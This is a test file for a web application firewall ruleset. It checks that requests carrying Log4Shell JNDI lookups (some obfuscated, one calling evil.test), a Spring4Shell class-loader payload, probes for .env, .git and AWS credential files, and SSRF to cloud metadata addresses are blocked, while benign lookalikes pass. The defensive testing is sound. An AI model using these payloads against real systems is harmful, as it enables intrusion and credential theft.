import { test } from 'node:test';
import assert from 'node:assert/strict';
import { enableSafeRegex } from '../../lib/regex.ts';
import { compileRulesetSync } from '../index.ts';
import { managedRules } from './index.ts';

enableSafeRegex();
const rs = compileRulesetSync({ text: 'SecRuleEngine On\nSecRequestBodyAccess On\n' + managedRules() });

function run(uri: string, headers: Array<[string, string]> = [], body?: string, method = 'GET'): number[] {
  const tx = rs.newTransaction({ id: 't', clientIp: '203.0.113.9' });
  const h: Array<[string, string]> = [['Host', 'shop.test'], ['User-Agent', 'Mozilla/5.0'], ...headers];
  if (body !== undefined) h.push(['Content-Type', 'application/x-www-form-urlencoded'], ['Content-Length', String(Buffer.byteLength(body))]);
  let it = tx.processRequestHeaders({ method, uri, protocol: 'HTTP/1.1', headers: h });
  if (body !== undefined && it === undefined) it = tx.appendRequestBody(Buffer.from(body));
  it ??= tx.processRequestBody();
  tx.processLogging();
  return tx.matches.map((m) => m.id);
}

const positives: Array<[string, number, () => number[]]> = [
  ['Log4Shell in a header', 1100001, () => run('/', [['X-Api-Version', '${jndi:ldap://evil.test/a}']])],
  ['Log4Shell url-encoded in a query', 1100001, () => run('/?q=%24%7Bjndi%3Armi%3A%2F%2Fx%7D')],
  ['Log4Shell obfuscated with lower', 1100002, () => run('/', [['User-Agent', '${${lower:j}ndi:ldap://x/a}']])],
  ['Log4Shell obfuscated with ::-', 1100002, () => run('/?a=${${::-j}${::-n}${::-d}${::-i}:ldap://x}')],
  ['Spring4Shell class loader', 1100010, () => run('/app', [], 'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', 'POST')],
  ['/.env', 1100020, () => run('/.env')],
  ['/.git/config', 1100020, () => run('/.git/config')],
  ['encoded /%2egit/HEAD', 1100020, () => run('/%2egit/HEAD')],
  ['/.aws/credentials', 1100020, () => run('/static/../.aws/credentials')],
  ['config backup', 1100021, () => run('/wp-config.php.bak')],
  ['database dump', 1100021, () => run('/backup/site.sql.gz')],
  ['SSRF to AWS metadata', 1100030, () => run('/fetch?url=http://169.254.169.254/latest/meta-data/')],
  ['SSRF to GCP metadata', 1100030, () => run('/fetch?url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F')],
  ['SSRF by decimal address', 1100030, () => run('/fetch?url=http://2852039166/latest')],
];
for (const [name, id, f] of positives) test(`blocks: ${name}`, () => assert.ok(f().includes(id), `expected ${id}`));

const negatives: Array<[string, () => number[]]> = [
  ['a price with a dollar sign and braces', () => run('/?q=${price} is {ok}')],
  ['a template string without jndi', () => run('/', [['X-Template', '${user.name} ${env}']])],
  ['a parameter named classic', () => run('/search', [], 'classic=1&class=premium', 'POST')],
  ['/environment', () => run('/environment')],
  ['/docs/.github-guide', () => run('/docs/git-guide')],
  ['/static/app.env.js', () => run('/static/app.env.js')],
  ['a sql tutorial page', () => run('/learn/sql.html')],
  ['an IP-like version number', () => run('/?v=1.169.254.169.2540')],
  ['a link to google docs', () => run('/?u=https://docs.google.com/internal-notes')],
];
for (const [name, f] of negatives) test(`passes: ${name}`, () => assert.deepEqual(f(), []));
